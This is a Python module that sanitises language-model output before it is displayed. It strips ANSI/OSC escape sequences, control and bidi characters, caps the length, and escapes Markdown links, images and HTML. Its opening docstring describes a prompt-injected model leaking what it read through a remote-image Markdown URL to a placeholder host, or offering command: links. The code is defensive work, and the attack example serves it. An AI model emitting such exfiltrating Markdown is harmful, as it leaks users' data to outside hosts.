"""Model text is data: control sequences out, length bounded, Markdown made inert, before anything
prints or shows it.

A model (or a hostile endpoint) can answer with terminal control sequences: ANSI/CSI colour and
cursor codes, OSC sequences that set a terminal's title or clipboard or write hyperlinks, DCS
and other escape strings, C0 and C1 control characters, bidirectional-text overrides that make
code read differently from what it is. `clean` removes all of them (newline and tab stay;
CR LF becomes LF) from any text that came from a model or an endpoint; `StreamCleaner` does the
same for a stream whose sequences may be split between chunks, and stops it at a character
bound derived from the configured token limit (`char_limit`).

Model text is shown as Markdown (hover, the explanation that opens in an editor's Markdown
preview, the CLI's output): a prompt-injected model could make that Markdown load a remote image
(`![](https://host/?q=<what it read>)`: the known way to exfiltrate from an assistant), embed raw
HTML, or offer a `command:`/`file:` link that runs or opens something when clicked.
`inert_markdown` (`InertMarkdown` for a stream) keeps the model's prose, emphasis, lists, code
spans and fenced code blocks, and turns everything that could link, embed or load into literal
text: `[`, `]` and `<` are backslash-escaped outside code (no link, image, reference definition,
autolink or HTML tag can form; the text reads the same), a backtick that opens no code span on
its line is escaped (so a renderer cannot open one that this function did not see), and each
fenced code block is re-emitted at the left margin with a plain info string (so that a renderer
finds exactly the code this function found, whatever list or quote the model put it in).
"""

from __future__ import annotations

import re

# Generous: English prose averages ~4 characters per token, code ~3.
CHARS_PER_TOKEN = 6

_SEQUENCE = re.compile(
    r"""
      \x1b\[[0-?]*[ -/]*[@-~]                       # CSI ... final byte
    | \x9b[0-?]*[ -/]*[@-~]                         # 8-bit CSI
    | \x1b[\]PX^_][^\x07\x1b\x9c]*(?:\x07|\x1b\\|\x9c)  # OSC, DCS, SOS, PM, APC ... BEL or ST
    | [\x90\x98\x9d\x9e\x9f][^\x07\x1b\x9c]*(?:\x07|\x1b\\|\x9c)  # their 8-bit forms
    | \x1b[ -/]*[0-OQ-WYZ\\`a-~]                    # any other escape sequence
    """,
    re.VERBOSE,
)
# C0 except tab and newline, DEL, C1, and the bidirectional overrides/isolates
_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_STARTERS = "\x1b\x9b\x90\x98\x9d\x9e\x9f\r"
_HOLD_MAX = 512  # an escape sequence longer than this is not waited for


def clean(text: str) -> str:
    """`text` without control sequences and control characters (newline and tab stay)."""
    if not text:
        return text
    text = text.replace("\r\n", "\n")
    text = _SEQUENCE.sub("", text)
    return _CONTROL.sub("", text)


# CommonMark's backslash-escapable characters (an escaped one is copied as it is)
_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_ESCAPED = frozenset("[]<")
_FENCE_OPEN = re.compile(r"^ {0,3}(?P<fence>`{3,}|~{3,})(?P<info>.*)$")
_INFO_WORD = re.compile(r"[A-Za-z0-9_+#.-]+")


def inert_text(text: str) -> str:
    """Model or endpoint text for a plain-text surface (a message, a title): one line, without
    `[label](target)`, which some clients turn into a link even there (VS Code's notifications)."""
    return " ".join(clean(text).split()).replace("](", "] (")


def inert_markdown(text: str) -> str:
    """`text` (model output, already `clean`ed) as Markdown that cannot link, embed or load."""
    stream = InertMarkdown()
    return stream.feed(text) + stream.flush()


class InertMarkdown:
    """`inert_markdown` for text that arrives in chunks: `feed` returns the complete lines so
    far, made inert; `flush` the last line (and closes a fenced block the model left open)."""

    def __init__(self) -> None:
        self._pending = ""
        self._fence: tuple[str, int] | None = None  # (character, length) of the open fence

    def feed(self, chunk: str) -> str:
        text = self._pending + chunk
        cut = text.rfind("\n") + 1
        self._pending = text[cut:]
        return "".join(self._line(line) for line in text[:cut].splitlines(keepends=True))

    def flush(self) -> str:
        out = self._line(self._pending) if self._pending else ""
        self._pending = ""
        if self._fence is not None:  # (so that what follows the model's text is not code)
            out += ("" if not out or out.endswith("\n") else "\n") + self._fence[0] * self._fence[1]
            self._fence = None
        return out

    def preview(self) -> str:
        """What `flush` would add now, without ending the stream (a streamed view of the text)."""
        saved = (self._pending, self._fence)
        try:
            return self.flush()
        finally:
            self._pending, self._fence = saved

    def _line(self, line: str) -> str:
        body = line.rstrip("\n")
        end = line[len(body):]
        if self._fence is not None:
            char, length = self._fence
            stripped = body.lstrip(" ")
            rest = stripped.lstrip(char)
            if len(body) - len(stripped) <= 3 and len(stripped) - len(rest) >= length and not rest.strip(" \t"):
                self._fence = None  # (CommonMark's closing fence: as long as the opening one, or longer)
                return char * length + end
            return line
        match = _FENCE_OPEN.match(body)
        if match is not None and not (match["fence"][0] == "`" and "`" in match["info"]):
            fence = match["fence"]
            self._fence = (fence[0], len(fence))
            info = _INFO_WORD.match(match["info"].strip())
            return fence + (info.group() if info else "") + end
        return _inert_inline(body) + end


def _inert_inline(line: str) -> str:
    """One line of prose: code spans kept, `[`, `]`, `<` and unpaired backticks escaped."""
    out: list[str] = []
    i, n = 0, len(line)
    while i < n:
        char = line[i]
        if char == "\\" and i + 1 < n and line[i + 1] in _PUNCTUATION:
            out.append(line[i:i + 2])
            i += 2
        elif char == "`":
            run = i
            while run < n and line[run] == "`":
                run += 1
            width = run - i
            close = _closing_run(line, run, width)
            if close is None:
                out.append("\\`" * width)
                i = run
            else:
                out.append(line[i:close + width])
                i = close + width
        else:
            out.append("\\" + char if char in _ESCAPED else char)
            i += 1
    return "".join(out)


def _closing_run(line: str, start: int, width: int) -> int | None:
    """Where a run of exactly `width` backticks begins in `line` from `start`, or None."""
    i, n = start, len(line)
    while i < n:
        if line[i] != "`":
            i += 1
            continue
        run = i
        while run < n and line[run] == "`":
            run += 1
        if run - i == width:
            return i
        i = run
    return None


def char_limit(max_output_tokens: int) -> int:
    """The most characters an answer of `max_output_tokens` tokens may have."""
    return max(1, max_output_tokens) * CHARS_PER_TOKEN


def truncation_note(limit: int) -> str:
    return (f"\n\n(perflsp: the answer was cut off after {limit} characters: "
            f"more than its output token limit allows)\n")


class StreamCleaner:
    """`clean` for a text that arrives in chunks, bounded to `limit` characters.

    `feed(chunk)` returns what can be shown now (an escape sequence that may continue in the
    next chunk is held back); `flush()` the rest at the end. Once `limit` characters went out,
    `truncated` is set and everything else is dropped.
    """

    def __init__(self, limit: int | None = None):
        self.limit = limit
        self.emitted = 0
        self.truncated = False
        self._held = ""

    def feed(self, chunk: str) -> str:
        if self.truncated:
            return ""
        text = self._held + chunk
        self._held = ""
        start = _incomplete_from(text)
        if start is not None:
            text, self._held = text[:start], text[start:]
        return self._bounded(clean(text))

    def flush(self) -> str:
        text, self._held = self._held, ""
        return "" if self.truncated else self._bounded(clean(text))

    def _bounded(self, text: str) -> str:
        if self.limit is None:
            self.emitted += len(text)
            return text
        room = self.limit - self.emitted
        if len(text) > room:
            self.truncated = True
            text = text[:max(0, room)]
        self.emitted += len(text)
        return text


_STARTER = re.compile("[" + _STARTERS + "]")


def _incomplete_from(text: str) -> int | None:
    """Where a sequence begins that the next chunk may complete (None: nothing to hold)."""
    pos = max(0, len(text) - _HOLD_MAX)
    while (found := _STARTER.search(text, pos)) is not None:
        start = found.start()
        if text[start] == "\r":
            if start + 1 == len(text):
                return start  # a CR LF may be split
            pos = start + 1
            continue
        match = _SEQUENCE.match(text, start)
        if match is None:
            return start
        pos = match.end()
    return None
